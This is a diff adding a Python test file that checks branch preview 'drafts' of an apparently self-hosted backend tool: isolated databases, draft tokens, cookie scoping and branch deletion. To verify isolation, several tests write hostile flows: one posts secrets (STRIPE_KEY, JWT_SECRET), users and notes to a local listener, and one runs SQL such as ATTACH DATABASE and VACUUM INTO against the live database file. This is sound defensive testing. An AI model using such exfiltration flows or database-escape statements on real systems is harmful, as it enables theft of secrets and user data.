@@ -1,0 +1,325 @@
+"""Drafts: each branch is previewed with a database of its own, and sees nothing of what is live."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, HTTPServer
+
+import httpx
+import pytest
+
+from tests.served import LIST, Served, git, make_project, wait_for
+
+PAGE = "page: ${ query.page }"
+SECRETS = {
+    "STRIPE_KEY": "sk_live_nobody_may_see_this",
+    "JWT_SECRET": "x" * 20 + "live-key" + "y" * 20,
+}
+NOTE = "the live note that nobody else may read"
+
+
+class Listener(HTTPServer):
+    """What code of a draft tries to send things to."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+        super().__init__(("127.0.0.1", 0), _Take)
+
+
+class _Take(BaseHTTPRequestHandler):
+    def do_POST(self) -> None:
+        length = int(self.headers["content-length"])
+        self.server.heard.append(self.rfile.read(length))  # type: ignore[attr-defined]
+        self.send_response(200)
+        self.send_header("content-length", "0")
+        self.end_headers()
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[Listener]:
+    with Listener() as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    box = tmp_path_factory.mktemp("box")
+    repository = make_project(box / "sample")
+    project = (repository / "project.yaml").read_text()
+    secret = "  STRIPE_KEY: { secret: true, required: false }\n"
+    (repository / "project.yaml").write_text(project.replace("env:\n", f"env:\n{secret}"))
+    git(repository, "commit", "-qam", "Take money")
+    egress = "egress: { allow: [127.0.0.1] }\n"
+    (box / "server.yaml").write_text(f"{egress}projects: {{ notes: {{ repository: sample }} }}\n")
+    with Served(box, box / "home") as server:
+        server.repository = repository
+        server.live()
+        for name, value in SECRETS.items():
+            assert not server.bbops(
+                "env",
+                "set",
+                name,
+                value,
+                "--project",
+                "notes",
+                "--state",
+                str(box / ".bbops/state"),
+            ).returncode
+            server.live()
+        headers = server.sign_up()
+        assert server.api.post("/api/v1/notes", json={"title": NOTE}, headers=headers).is_success
+        yield server
+
+
+@contextmanager
+def branch(served: Served, name: str) -> Iterator[None]:
+    """Work on a new branch, then go back to main."""
+    git(served.repository, "checkout", "-qb", name)
+    try:
+        yield
+    finally:
+        git(served.repository, "checkout", "-q", "main")
+
+
+def push(served: Served, name: str, field: str) -> str:
+    """Make a branch on which the list of notes has one more field; return its commit."""
+    with branch(served, name):
+        served.edit(LIST, PAGE, f"{PAGE}\n        {field}: true")
+        return served.commit(f"Add {field}")
+
+
+def enter(served: Served, name: str) -> httpx.Client:
+    """Return a client that is let into a draft, once there is one."""
+    wait_for(lambda: name in {one["branch"] for one in drafts(served)})
+    made = json.loads(served.bbops("drafts", "token", name, "--json").stdout)
+    return httpx.Client(base_url=made["url"], headers={"x-draft-token": made["token"]}, timeout=30)
+
+
+def drafts(served: Served) -> list[dict[str, str]]:
+    return list(served.control.get("/api/projects/notes/drafts").json())
+
+
+def find(served: Served, name: str) -> dict[str, str]:
+    (found,) = [one for one in drafts(served) if one["branch"] == name]
+    return found
+
+
+def sign_up(client: httpx.Client) -> dict[str, str]:
+    ada = {"email": "ada@example.com", "password": "a long enough password", "name": "Ada"}
+    reply = client.post("api/auth/register", json=ada)
+    assert reply.status_code == 201, reply.text
+    return {"authorization": f"Bearer {reply.json()['token']}"}
+
+
+def test_a_branch_answers_as_a_draft_and_main_as_before(served: Served) -> None:
+    commit = push(served, "topic", "draft_field")
+    with enter(served, "topic") as client:
+        reply = client.get("api/v1/notes", headers=sign_up(client))
+    assert reply.json()["draft_field"] is True
+    assert reply.json()["notes"] == []
+    assert reply.headers["x-draft"] == "topic"
+    assert "noindex" in reply.headers["x-robots-tag"]
+    assert reply.headers["x-release"] == commit[:12]
+    assert find(served, "topic")["state"] == "live"
+    live = served.api.get("/api/v1/notes", headers=served.sign_up(email="bob@example.com"))
+    assert "draft_field" not in live.json()
+
+
+def test_nobody_is_let_into_a_draft_without_its_own_token(served: Served) -> None:
+    push(served, "closed", "one")
+    push(served, "other", "two")
+    with enter(served, "closed") as client:
+        token = client.headers["x-draft-token"]
+        assert client.get("api/me").status_code == 401
+        assert client.get("api/me").json()["error"]["code"] == "unauthorized"
+        del client.headers["x-draft-token"]
+        assert client.get("api/me").json()["error"]["code"] == "draftClosed"
+        for wrong in ("", "bbd_", f"{token[:-2]}00", token.replace("bbd_", "bbd_f")):
+            reply = client.get("api/me", headers={"x-draft-token": wrong})
+            assert reply.json()["error"]["code"] == "draftClosed"
+    with enter(served, "other") as client:
+        reply = client.get("api/me", headers={"x-draft-token": token})
+        assert reply.json()["error"]["code"] == "draftClosed"
+
+
+def test_a_browser_comes_in_by_the_button_of_the_control_plane(served: Served) -> None:
+    push(served, "feature/Cart&Pay", "three")
+    wait_for(lambda: "feature/Cart&Pay" in {one["branch"] for one in drafts(served)})
+    page = served.control.get("/projects/notes/drafts", headers={"accept": "text/html"})
+    url = find(served, "feature/Cart&Pay")["url"]
+    assert f'action="{url}~enter"' in page.text
+    assert served.serving["url"] in page.headers["content-security-policy"]
+    token = page.text.partition(f"{url}~enter")[2].partition('value="')[2].partition('"')[0]
+    with httpx.Client(base_url=url, timeout=30) as browser:
+        assert browser.post("~enter", data={"token": "bbd_1_2"}).status_code == 401
+        entered = browser.post("~enter", data={"token": token})
+        assert entered.status_code == 303
+        cookie = entered.headers["set-cookie"]
+        assert "HttpOnly" in cookie
+        assert f"Path={httpx.URL(url).path}" in cookie
+        assert browser.get("api/me").json()["error"]["code"] == "unauthorized"
+
+
+def test_a_draft_with_a_mistake_says_where_it_is(served: Served) -> None:
+    with branch(served, "broken"):
+        served.edit(LIST, "vars.notes", "vars.nots")
+        served.commit("Break it")
+    with enter(served, "broken") as client:
+        reply = client.get("api/me")
+    assert reply.status_code == 503
+    assert "functions/notes/list.yaml:" in reply.json()["error"]["message"]
+    assert find(served, "broken")["state"] == "stalled"
+
+
+def test_a_push_to_a_draft_that_is_awake_is_served(served: Served) -> None:
+    push(served, "moving", "first")
+    with enter(served, "moving") as client:
+        headers = sign_up(client)
+        assert client.get("api/v1/notes", headers=headers).json()["first"] is True
+        git(served.repository, "checkout", "-q", "moving")
+        served.edit(LIST, "first: true", "second: true")
+        git(served.repository, "commit", "-qa", "--amend", "-m", "Rewrite")  # a draft may be
+        git(served.repository, "checkout", "-q", "main")
+        wait_for(lambda: "second" in client.get("api/v1/notes", headers=headers).json())
+
+
+def test_rows_that_stand_in_the_way_do_not_stall_a_draft(served: Served) -> None:
+    push(served, "tables", "anything")
+    with enter(served, "tables") as client:
+        headers = sign_up(client)
+        made = client.post("api/v1/notes", json={"title": "twelve"}, headers=headers)
+        assert made.is_success
+        git(served.repository, "checkout", "-q", "tables")
+        served.edit("tables/notes.yaml", "maxLength: 120", "maxLength: 5")
+        commit = served.commit("A length that a row is over")
+        git(served.repository, "checkout", "-q", "main")
+        wait_for(lambda: client.get("api/me").headers.get("x-release") == commit[:12])
+
+
+def test_a_deleted_branch_takes_its_draft_along(served: Served) -> None:
+    push(served, "short-lived", "gone")
+    with enter(served, "short-lived") as client:
+        assert client.get("api/me").status_code == 401
+        folder = next(served.repository.parent.rglob("drafts/short-lived"))
+        git(served.repository, "branch", "-qD", "short-lived")
+        wait_for(lambda: client.get("api/me").status_code == 404)
+    wait_for(lambda: not folder.exists())
+    assert served.api.get("/api/me").status_code == 401
+
+
+def test_a_draft_keeps_its_cookies_and_sees_none_of_what_is_live(
+    served: Served, listener: Listener
+) -> None:
+    with branch(served, "cookies"):
+        write_flow(
+            served,
+            "cookies",
+            f"""
+          - http: {{ method: POST, url: "{address(listener)}", body: {{ all: "${{ headers }}" }} }}
+          - return:
+              value: done
+              headers: {{ set-cookie: "draft_own=1; Path=/; Domain=127.0.0.1" }}
+        """,
+        )
+        served.commit("Look at cookies")
+    listener.heard.clear()
+    with enter(served, "cookies") as client:
+        asked = {"cookie": "session=live; bbops=control; __Host-bbops=x"}
+        reply = client.post("leak", headers=asked)
+        assert reply.status_code == 200, reply.text
+        assert reply.headers["set-cookie"].startswith("bbops-draft.draft_own=1;")
+        assert reply.headers["set-cookie"].endswith("Path=/~drafts/cookies/")
+        client.post("leak", headers={"cookie": "bbops-draft.draft_own=1; session=live"})
+    first, second = map(json.loads, listener.heard)
+    assert "cookie" not in first["all"]
+    assert second["all"]["cookie"] == "draft_own=1"
+    assert "x-draft-token" not in second["all"]
+
+
+def test_a_draft_that_sends_everything_away_sends_nothing_that_is_live(
+    served: Served, listener: Listener
+) -> None:
+    with branch(served, "thief"):
+        write_flow(
+            served,
+            "thief",
+            f"""
+          - find: {{ table: users }}
+            as: users
+          - find: {{ table: notes }}
+            as: notes
+          - http:
+              method: POST
+              url: "{address(listener)}"
+              body:
+                stripe: "${{ env.STRIPE_KEY }}"
+                jwt: "${{ env.JWT_SECRET }}"
+                users: "${{ vars.users }}"
+                notes: "${{ vars.notes }}"
+          - return: {{ value: done }}
+        """,
+        )
+        served.commit("Send all of it")
+    listener.heard.clear()
+    with enter(served, "thief") as client:
+        reply = client.post("leak")
+        assert reply.status_code == 200, reply.text
+    (sent,) = listener.heard
+    assert json.loads(sent)["jwt"]
+    assert json.loads(sent)["users"] == json.loads(sent)["notes"] == []
+    for value in (*SECRETS.values(), NOTE, "ada@example.com"):
+        assert value.encode() not in sent
+        assert value not in (served.home / "log").read_text()
+
+
+def test_no_statement_of_a_draft_reaches_the_live_database(served: Served) -> None:
+    data = next(served.repository.parent.rglob("state/projects/notes/data.sqlite"))
+    for number, statement in enumerate(
+        (
+            f"ATTACH DATABASE '{data}' AS live",
+            f"ATTACH DATABASE 'file:{data}?mode=ro' AS live",
+            "SELECT title FROM live.notes",
+            f"VACUUM INTO '{data}'",
+            "PRAGMA database_list",
+        )
+    ):
+        name = f"reach-{number}"
+        with branch(served, name):
+            write_flow(
+                served,
+                name,
+                f"""
+          - sql:
+              mode: write
+              statement: "{statement}"
+            as: stolen
+          - return: {{ value: "${{ vars.stolen }}" }}
+            """,
+            )
+            served.commit("Reach out")
+        with enter(served, name) as client:
+            reply = client.post("leak")
+        assert reply.status_code in {500, 503}, reply.text
+        assert NOTE not in reply.text
+
+
+def address(listener: Listener) -> str:
+    return f"http://127.0.0.1:{listener.server_port}/"
+
+
+def write_flow(served: Served, name: str, steps: str) -> None:
+    """Add a public endpoint `POST /leak` with these steps."""
+    functions, endpoints = served.repository / "functions", served.repository / "endpoints"
+    lines = [line.removeprefix(" " * 8) for line in steps.strip("\n").splitlines()]
+    (functions / f"{name}.yaml").write_text("steps:\n" + "\n".join(lines) + "\n")
+    (endpoints / f"{name}.yaml").write_text(
+        f"method: POST\npath: /leak\nfunction: {name}\nauthentication: None\n"
+    )
